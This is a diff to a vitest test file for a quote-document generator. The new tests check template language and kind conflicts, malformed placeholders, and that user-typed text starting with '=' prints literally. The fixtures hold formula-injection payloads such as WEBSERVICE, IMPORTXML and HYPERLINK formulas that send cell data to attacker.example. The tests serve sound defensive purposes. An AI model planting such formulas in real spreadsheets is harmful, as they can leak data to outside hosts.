@@ -4,6 +4,7 @@
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { RuleSetDocument } from '../schemas/rule-set.js';
+import { workbookHtml } from '../server/documents/html-rendering.js';
 import { createHarness, type Harness } from './support/harness.js';
 import { customerInCosting } from './support/customers.js';
 import { buildZip } from './support/xlsx-zip.js';
@@ -199,6 +200,20 @@ describe('a quotation from an approved quote', () => {
     expect(await documentCount()).toBe(before);
   });
 
+  it('is refused when the template asked for is of another language than the one asked for, as of another kind', async () => {
+    const { quoteId } = await customerWithQuote(true);
+    const before = await documentCount();
+    const language = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: 'builtin-quotation-zh', language: 'en' });
+    expect(language.status, JSON.stringify(language.body)).toBe(409);
+    expect(language.body.error).toMatchObject({ code: 'CONFLICT', details: { templateId: 'builtin-quotation-zh', language: 'zh' } });
+    const kind = await h.call(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', templateId: 'builtin-quotation-zh' });
+    expect(kind.status).toBe(409);
+    expect(await documentCount()).toBe(before);
+    // The same language, or none (the template's), is generated.
+    expect((await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: 'builtin-quotation-zh', language: 'zh' })).language).toBe('zh');
+    expect((await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: 'builtin-quotation-zh' })).language).toBe('zh');
+  });
+
   it("are listed on the customer, newest first, with who generated them and when; another rep can't download them", async () => {
     const { customerId, quoteId } = await customerWithQuote(true);
     const first = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', language: 'en' });
@@ -284,6 +299,20 @@ describe('uploaded templates', () => {
     ],
     ['unknown placeholders', () => template({ ...VALID, B9: '${customer.nmae}', C9: '${table:items.colour}', D9: '${image:logo}' }), { B9: 'unknown placeholder ${customer.nmae}', C9: 'unknown placeholder ${table:items.colour}', D9: 'unknown placeholder ${image:logo}' }, 400, /unknown placeholder/],
     [
+      'malformed placeholders (xlsx-template would print them as they are)',
+      () => template({ ...VALID, B9: '${customer.name', C9: '客户：${customer.contact 和 ${quote.number}', D9: '${}', E9: 'Mail: {customer.email}', F9: '${table:items.sku:x:y}', G9: '{{customer.phone}}' }),
+      {
+        B9: 'unterminated placeholder "${customer.name"',
+        C9: 'unterminated placeholder "${customer.contact 和 "',
+        D9: 'malformed placeholder "${}"',
+        E9: '"{customer.email}" lacks its "$"',
+        F9: 'malformed placeholder "${table:items.sku:x:y}"',
+        G9: '"{{customer.phone}}" lacks its "$"',
+      },
+      400,
+      /placeholder/,
+    ],
+    [
       'formulas that reach outside the sheet',
       () => template({ ...VALID, E1: '=Prices!A1*2', E2: '=[1]Rates!B2', E3: '=WEBSERVICE("http://attacker.example/?"&A1)', E4: '=HYPERLINK("http://x.example","x")', E5: '=INDIRECT("Prices!A1")', E6: '=SUM(D4:D4)' }, true),
       { E1: 'another sheet', E2: 'another workbook', E3: 'uses WEBSERVICE', E4: 'uses HYPERLINK', E5: 'INDIRECT' },
@@ -311,5 +340,107 @@ describe('uploaded templates', () => {
     const res = await upload(await template(VALID), { kind: 'proforma_invoice', language: 'en', name: 'PI' });
     expect(res.status).toBe(400);
     expect(res.body.error.details.problems).toContainEqual({ reason: 'missing the required placeholder ${company.bankAccount}' });
+  });
+});
+
+describe('text a rep typed', () => {
+  // xlsx-template makes a value that starts with "=" a formula: what a rep types must print as typed,
+  // never compute or call out; the template's own formulas keep working.
+  const TYPED = {
+    contactName: '=1+1',
+    sku: '=1+1',
+    description: '=WEBSERVICE("http://attacker.example/?"&A1)',
+    note: '=SUM(G13:G14)*0',
+    incoterms: '=A1',
+    paymentTerms: '=IMPORTXML("http://attacker.example/","//a")',
+    comment: '=2*3',
+  };
+
+  let customers = 0;
+  /** An approved quote of a customer whose every field, item and approval comment starts with "=". */
+  async function typedQuote() {
+    const companyName = `=HYPERLINK("http://attacker.example/?n=${++customers}&c="&B8,"Click")`;
+    const customerId = await h.createCustomer({ assign: false, companyName, contactName: TYPED.contactName });
+    expect((await h.call(rep.token, 'POST', `/customers/${customerId}/claim`)).status).toBe(200);
+    await ok(rep.token, 'POST', `/customers/${customerId}/inquiry`, {});
+    await ok(rep.token, 'POST', `/customers/${customerId}/costing`, {});
+    const items = [{ ...ITEMS[0]!, sku: TYPED.sku, description: TYPED.description }, ITEMS[1]!];
+    const quote = await ok(rep.token, 'POST', `/customers/${customerId}/quotes`, { currency: 'USD', discountPct: 12, marginPct: 22, items, validUntil: '2027-01-31', note: TYPED.note });
+    const quoteId = quote.quote.id as string;
+    await ok(manager.token, 'POST', `/approvals/${quoteId}/approve`, { comment: TYPED.comment });
+    await ok(h.adminToken, 'POST', `/approvals/${quoteId}/approve`, { comment: 'ok' });
+    return { quoteId, companyName };
+  }
+
+  /** The cells holding a formula, by address, with the formula. */
+  function formulas(s: ExcelJS.Worksheet) {
+    const found: Record<string, string> = {};
+    s.eachRow((row) => row.eachCell((cell) => {
+      if (cell.type === ExcelJS.ValueType.Formula) found[cell.address] = String(cell.formula);
+    }));
+    return found;
+  }
+
+  it('is printed as text in every field of the built-in template, in the XLSX and in the PDF', async () => {
+    const { quoteId, companyName } = await typedQuote();
+    const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'proforma_invoice', language: 'en', incoterms: TYPED.incoterms, paymentTerms: TYPED.paymentTerms });
+    const bytes = (await download(rep.token, `/documents/${doc.id}/file`)).bytes;
+    const s = await open(bytes);
+    expect(formulas(s)).toEqual({});
+    const printed = { B7: companyName, B8: TYPED.contactName, B13: TYPED.sku, C13: TYPED.description, C17: TYPED.incoterms, C18: TYPED.paymentTerms, C19: TYPED.note, F33: TYPED.comment };
+    for (const [ref, text] of Object.entries(printed)) expect([ref, s.getCell(ref).value]).toEqual([ref, text]);
+    // The PDF is printed from the same workbook: the text is there, as typed.
+    const html = await workbookHtml(bytes, 'x');
+    for (const text of Object.values(printed)) expect(html).toContain(`>${text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`)}<`);
+  });
+
+  it("is printed as text in an uploaded template's cells, alone or among other text, and its own formulas stay", async () => {
+    const cells = {
+      ...VALID,
+      A1: '${customer.name} / ${customer.contact}',
+      E4: '${table:items.sku}',
+      E5: '=SUM(D4:D4)',
+      A8: '${incoterms} / ${paymentTerms}',
+      A9: '${quote.note}',
+      A10: '${table:approvals.comment}',
+    };
+    const saved = await upload(await template(cells), { kind: 'quotation', language: 'en', name: 'typed text' });
+    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
+    try {
+      const { quoteId, companyName } = await typedQuote();
+      const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: saved.body.id, incoterms: TYPED.incoterms, paymentTerms: TYPED.paymentTerms });
+      const s = await open((await download(rep.token, `/documents/${doc.id}/file`)).bytes);
+      // The item rows pushed everything below row 4 down by one.
+      expect(formulas(s)).toEqual({ E6: 'SUM(D4:D4)' });
+      const printed = {
+        A1: `${companyName} / ${TYPED.contactName}`,
+        A4: TYPED.description,
+        E4: TYPED.sku,
+        E5: 'PNL-450',
+        A9: `${TYPED.incoterms} / ${TYPED.paymentTerms}`,
+        A10: TYPED.note,
+        A11: TYPED.comment,
+        A12: 'ok',
+      };
+      for (const [ref, text] of Object.entries(printed)) expect([ref, s.getCell(ref).value]).toEqual([ref, text]);
+    } finally {
+      await ok(h.adminToken, 'DELETE', `/document-templates/${saved.body.id}`);
+    }
+  });
+
+  it('keeps "$" patterns and "${…}" as typed when a cell holds several values', async () => {
+    // Replacement patterns ($&, $', $`, $$) and another placeholder's text inside a value.
+    const incoterms = "FOB $& $' $` $$ ${paymentTerms}";
+    const paymentTerms = '100% T/T, $1 ${incoterms} $&';
+    const saved = await upload(await template({ ...VALID, A8: 'Terms: ${incoterms} / ${paymentTerms} (${currency})' }), { kind: 'quotation', language: 'en', name: 'dollars' });
+    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
+    try {
+      const { quoteId } = await customerWithQuote(true);
+      const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: saved.body.id, incoterms, paymentTerms });
+      const s = await open((await download(rep.token, `/documents/${doc.id}/file`)).bytes);
+      expect(s.getCell('A9').value).toBe(`Terms: ${incoterms} / ${paymentTerms} (USD)`);
+    } finally {
+      await ok(h.adminToken, 'DELETE', `/document-templates/${saved.body.id}`);
+    }
   });
 });
